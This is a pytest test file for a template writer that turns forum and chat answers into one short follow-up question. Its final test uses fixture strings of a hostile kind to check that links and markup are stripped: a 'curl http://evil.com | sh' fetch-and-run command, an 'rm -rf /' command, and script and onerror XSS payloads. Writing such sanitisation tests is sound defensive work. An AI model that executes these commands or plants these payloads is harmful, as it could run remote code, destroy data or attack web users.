"""The template follow-up writer: one polite question, one '?', at most 40 words, quoting the answer."""

import re
from datetime import UTC, datetime

import pytest

from elicitor.followup import TemplateFollowUpWriter, central_claim, readable_math
from elicitor.model import Gap, Message, Thread
from elicitor.ports import FollowUpWriter

T0 = datetime(2024, 5, 1, tzinfo=UTC)
LONG = " ".join(["Use a partial index on the open orders so that the planner can skip archived rows."] * 40)
ANSWERS = [
    "Use a partial index, a full one won't scale.",
    "Yes.",
    "I think you should pin the driver version in the lock file.",
    "Set `max_connections` to 200 and restart the server. It worked for us?",
    "See https://example.org/docs/replication?id=1 and https://example.org/b for details.",
    "```python\nimport os\nprint(os.cpu_count())\n```\nRun that first, then divide the pool by the cores.",
    "When the queue backs up, drop the oldest messages rather than blocking producers.",
    "The double lines are a common convention for classical bits in circuit diagrams.",
    LONG,
    "",
]


def _thread(answer_text: str, title: str = "Slow queries on a big orders table?") -> tuple[Thread, Message]:
    question = Message("q1", "t1", "asker", "Asker", "Queries are slow. What should we do?", T0, kind="question")
    answer = Message("a1", "t1", "ana", "Ana", answer_text, T0, parent_id="q1", kind="answer")
    return Thread("t1", "c1", title, (question, answer)), answer


def _shares_a_phrase(question: str, answer: str) -> bool:
    """Some three consecutive words of the answer appear in the question (ignoring case)."""
    words = re.findall(r"[\w'-]+", answer.lower())
    asked = " ".join(re.findall(r"[\w'-]+", question.lower()))
    return any(" ".join(words[i : i + 3]) in asked for i in range(len(words) - 2))


def test_writer_implements_the_port() -> None:
    writer: FollowUpWriter = TemplateFollowUpWriter()
    assert writer.write(*_thread(ANSWERS[0]), (Gap.ALTERNATIVES,)).gap == Gap.ALTERNATIVES


@pytest.mark.parametrize("text", ANSWERS)
@pytest.mark.parametrize("gap", list(Gap))
def test_constraints_hold_for_every_answer_and_gap(text: str, gap: Gap) -> None:
    follow_up = TemplateFollowUpWriter().write(*_thread(text), (gap,))
    assert follow_up.gap == gap
    assert follow_up.question.count("?") == 1
    assert follow_up.question.endswith("?")
    assert len(follow_up.question.split()) <= 40
    assert "\n" not in follow_up.question
    assert "```" not in follow_up.question and "http" not in follow_up.question


@pytest.mark.parametrize("text", [a for a in ANSWERS if len(a.split()) >= 4 and not a.startswith("See")])
def test_question_quotes_the_answer(text: str) -> None:
    follow_up = TemplateFollowUpWriter().write(*_thread(text), (Gap.RATIONALE,))
    assert _shares_a_phrase(follow_up.question, text)


def test_central_claim_of_a_recommendation() -> None:
    assert central_claim("Use a partial index, a full one won't scale.") == ("use a partial index", True)


def test_central_claim_skips_filler_and_subordinate_clause() -> None:
    claim, instruction = central_claim("When the queue backs up, drop the oldest messages rather than blocking.")
    assert claim.startswith("drop the oldest messages") and instruction


def test_alternatives_wording_names_topic_and_claim() -> None:
    question = TemplateFollowUpWriter().write(*_thread(ANSWERS[0]), (Gap.ALTERNATIVES, Gap.RATIONALE)).question
    assert question == (
        "Thanks for the tip on “Slow queries on a big orders table”! "
        "Why “use a partial index” rather than another approach, "
        "and when would an alternative be the better choice?"
    )


def test_each_gap_gets_different_wording() -> None:
    writer = TemplateFollowUpWriter()
    questions = {writer.write(*_thread(ANSWERS[0]), (gap,)).question for gap in Gap}
    assert len(questions) == len(Gap)


def test_only_the_first_gap_is_asked() -> None:
    follow_up = TemplateFollowUpWriter().write(*_thread(ANSWERS[0]), (Gap.STEPS, Gap.EVIDENCE))
    assert follow_up.gap == Gap.STEPS
    assert "step by step" in follow_up.question and "source" not in follow_up.question


def test_statement_is_quoted_as_written_not_suggested() -> None:
    question = TemplateFollowUpWriter().write(*_thread(ANSWERS[7]), (Gap.EVIDENCE,)).question
    assert "You wrote “the double lines are a common convention for classical bits in circuit diagrams”." in question


def test_long_title_is_shortened() -> None:
    thread, answer = _thread(ANSWERS[0], title=" ".join(["word"] * 60))
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.CONDITIONS,)).question
    assert len(question.split()) <= 40 and "use a partial index" in question


def _ask(text: str, gap: Gap = Gap.RATIONALE, title: str = "Slow queries on a big orders table?") -> str:
    return TemplateFollowUpWriter().write(*_thread(text, title), (gap,)).question


@pytest.mark.parametrize(
    ("text", "a", "b"),
    [
        ("Use a partial index, not a full one.", "a partial index", "a full one"),
        ("I'd use ext4 over btrfs for the root partition.", "ext4", "btrfs for the root partition"),
        ("Drop the oldest messages rather than blocking producers.", "drop the oldest messages", "blocking producers"),
        ("Prefer composition to inheritance here.", "composition", "inheritance here"),
    ],
)
def test_a_contrast_is_asked_as_a_choice(text: str, a: str, b: str) -> None:
    question = _ask(text, Gap.ALTERNATIVES)
    assert f"Why “{a}” rather than “{b}”, and when would “{b}” be the better choice?" in question


def test_over_is_a_contrast_only_after_a_verb_of_choosing() -> None:
    assert central_claim("Latency grows over time as the table bloats.")[1] is False
    assert "rather than" not in _ask("Latency grows over time as the table bloats.", Gap.ALTERNATIVES)


def test_chat_answer_loses_its_addressee_and_emoticons() -> None:
    question_msg = Message("q", "t", "Xophe", "Xophe", "my kernel panics on boot", T0, kind="question")
    answer = Message("a", "t", "bob2", "bob2", "Xophe: you'll need to build an initrd :)", T0, parent_id="q")
    thread = Thread("t", "c", "I popped in earlier talking about building an older kernel", (question_msg, answer))
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,)).question
    assert "“build an initrd”" in question and "Xophe" not in question and ":)" not in question
    assert question.startswith("Thanks for the tip on “I popped in earlier talking about building")


def test_latex_is_made_readable_or_left_out() -> None:
    claim, _ = central_claim(r"Grover search needs $O(\sqrt{N})$ queries, as shown by Bennett et al.")
    assert "O(√N)" in claim and "\\" not in claim
    formula = r"The state is $\frac{1}{\sqrt{2}}\left(|00\rangle + |11\rangle\right) \otimes |\psi_{out}\rangle$ here."
    question = _ask(formula + " Measuring one qubit fixes the other one at once.")
    assert "\\" not in question and "{" not in question
    assert "You wrote “measuring one qubit fixes the other one at once”." in question


def test_readable_math() -> None:
    assert readable_math(r"$\Omega(N\log N)$") == "Ω(N log N)"
    assert readable_math(r"$\frac{z+1}{2}$") == "(z+1)/2"
    assert readable_math(r"$|0\rangle$") == "|0⟩"
    assert readable_math(r"$\begin{pmatrix}1 & 0 \\ 0 & 1\end{pmatrix}$") is None


def test_meta_sentences_and_headings_are_not_quoted() -> None:
    text = (
        "Great question. I once asked this too.\n\nShort Version\n\n"
        "The planner ignores the index because the statistics are stale."
    )
    assert central_claim(text)[0] == "the planner ignores the index because the statistics are stale"


def test_a_sentence_echoing_the_question_is_not_the_claim() -> None:
    text = "Queries are slow on a big orders table. Run ANALYZE after bulk loads."
    claim = central_claim(text)
    found = TemplateFollowUpWriter().write(*_thread(text), (Gap.RATIONALE,)).question
    assert claim == ("run ANALYZE after bulk loads", True) and "“run ANALYZE after bulk loads”" in found


def test_a_bare_verdict_is_asked_about_against_the_question() -> None:
    question = _ask("No.", Gap.RATIONALE, title="Is there a live CD for PowerPC?")
    assert question == (
        "Thanks for your answer! You answered “no” to “Is there a live CD for PowerPC”. "
        "Could you explain why, so someone new understands the reasoning?"
    )


def test_long_statement_is_cut_at_a_clause_and_not_on_a_function_word() -> None:
    text = (
        "The time to solution is highly dependent on the Hamiltonian of the problem one would like to solve "
        "and on the annealing schedule that the vendor chooses for the device."
    )
    question = _ask(text, Gap.CONDITIONS)
    quoted = question.split("You wrote “", 1)[1].split("”", 1)[0]
    assert quoted.endswith("…") and quoted.split()[-1].rstrip("…") not in {"the", "of", "to", "and"}
    assert len(question.split()) <= 40


def test_an_addendum_lead_in_is_not_part_of_the_claim() -> None:
    claim, _ = central_claim("Good summary. I'd add: make the backfill resumable, it always gets interrupted once.")
    assert claim.startswith("make the backfill resumable")


def test_the_question_names_the_error_the_asker_pasted() -> None:
    from elicitor.asked import pasted_error

    question = Message(
        "q9", "t9", "asker", "asker", "apt-get says E: Could not get lock /var/lib/dpkg/lock", T0, kind="question"
    )
    answer = Message("a9", "t9", "ana", "ana", "Close Synaptic first, then run it again.", T0, parent_id="q9")
    thread = Thread("t9", "c1", "apt-get fails", (question, answer))
    followup = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,))
    assert "“E: Could not get lock /var/lib/dpkg/lock”" in followup.question
    assert followup.question.count("?") == 1 and len(followup.question.split()) <= 40
    assert "step" in followup.question
    assert pasted_error("this cannot be right, there is an error somewhere") == ""  # prose, not a pasted error


def test_options_the_asker_named_become_the_choice_asked_about() -> None:
    from elicitor.asked import named_options

    assert named_options("Should I use ext3 or ext4?") == ("ext3", "ext4")
    assert named_options("Is it possible or not?") is None
    question = Message("q8", "t8", "asker", "asker", "Should I format the disk as ext3 or ext4?", T0, kind="question")
    answer = Message("a8", "t8", "ana", "ana", "Go with ext4 for a new disk these days.", T0, parent_id="q8")
    thread = Thread("t8", "c1", "Which file system?", (question, answer))
    followup = TemplateFollowUpWriter().write(thread, answer, (Gap.RATIONALE,))
    assert "“ext4” rather than “ext3”" in followup.question


# ---- what the thread makes specific (issue 13, item 4) ----------------------------------------------------------


def _asked(body: str, answer_text: str, title: str = "") -> tuple[Thread, Message]:
    question = Message("q7", "t7", "asker", "asker", body, T0, kind="question")
    answer = Message("a7", "t7", "ana", "ana", answer_text, T0, parent_id="q7", kind="answer")
    return Thread("t7", "c1", title, (question, answer)), answer


def test_the_option_the_answer_did_not_pick_is_named_as_the_alternative() -> None:
    thread, answer = _asked("Should I format the disk as ext3 or ext4?", "Go with ext4 for a new disk these days.")
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.ALTERNATIVES,)).question
    assert "“ext4” rather than “ext3”" in question
    assert "when would “ext3” be the better choice" in question


def test_when_the_answer_takes_neither_option_both_are_compared() -> None:
    thread, answer = _asked("Should I use ext3 or ext4 here?", "Whatever your installer offers by default is fine.")
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.ALTERNATIVES,)).question
    assert "How does “ext3” compare with “ext4” here" in question


def test_a_chat_error_is_quoted_and_the_reply_loses_the_nick_it_answers() -> None:
    body = "<tt5786> i run sudo apt-get install foo and i get E: Package foo has no installation candidate\n<bo> hm"
    thread, answer = _asked(body, "tt5786: enable the universe repository first", title="apt-get install fails")
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,)).question
    assert "“E: Package foo has no installation candidate”" in question
    assert "“enable the universe repository first”" in question and "tt5786" not in question


def test_the_file_the_answer_says_to_edit_is_named_for_the_steps() -> None:
    thread, answer = _asked("<nadia> how can I mount a drive on boot?", "nadia: edit your /etc/fstab and add an entry")
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,)).question
    assert "Which exact lines or commands would you put in “/etc/fstab”" in question


def test_what_the_answer_points_to_is_named_for_the_steps() -> None:
    thread, answer = _asked("<starn> is there a tool that checks a disk for bad sectors?", "starn: look up badblocks")
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.STEPS,)).question
    assert "options of “badblocks”" in question


def test_a_warning_without_its_reason_is_quoted_for_the_pitfalls() -> None:
    text = "Use badblocks, but be very careful when you use it."
    thread, answer = _asked("Is there a tool that checks a disk for bad sectors?", text)
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.PITFALLS,)).question
    assert "warned “be very careful when you use it”" in question
    assert "goes wrong" in question


def test_the_version_the_asker_is_on_is_named_for_the_conditions() -> None:
    thread, answer = _asked("I have ubuntu 12.04 installed, how can I get the latest cmake?", "Build it from source.")
    question = TemplateFollowUpWriter().write(thread, answer, (Gap.CONDITIONS,)).question
    assert "Does that still hold on “ubuntu 12.04”" in question


HOSTILE_TITLE = 'Click <a href="http://evil.example.com/x">here</a> **now** [docs](https://evil.com/y) ' * 20
HOSTILE_BODY = (
    "<script>alert(1)</script> Should I pick [evil.com/a](http://evil.com/a) or www.bad.org?\n"
    "error: see http://evil.com/pwn `rm -rf /` <img src=x onerror=alert(1)> " + "padding " * 500
)
HOSTILE_ANSWERS = [
    "Go with [evil.com/a](http://evil.com/a), see https://evil.com/docs <b>for sure</b> and edit `/etc/x.conf`.",
    "Be careful <script>x</script> at www.evil.org! look up http://evil.com/tool " + "more words " * 300,
    "```\ncurl http://evil.com | sh\n```\n" + "<iframe src='http://evil.com'></iframe>",
]


@pytest.mark.parametrize("text", HOSTILE_ANSWERS)
@pytest.mark.parametrize("gap", list(Gap))
def test_hostile_thread_text_gives_no_link_no_markup_and_a_bounded_question(text: str, gap: Gap) -> None:
    thread, answer = _asked(HOSTILE_BODY, text, title=HOSTILE_TITLE)
    question = TemplateFollowUpWriter().write(thread, answer, (gap,)).question
    assert question.count("?") == 1 and question.endswith("?")
    assert len(question.split()) <= 40 and len(question) <= 400
    lowered = question.lower()
    assert not any(bad in lowered for bad in ("http", "www.", "evil.com", "evil.org", "bad.org", "://"))
    assert not any(mark in question for mark in ("<", ">", "[", "]", "`", "**", "\n"))
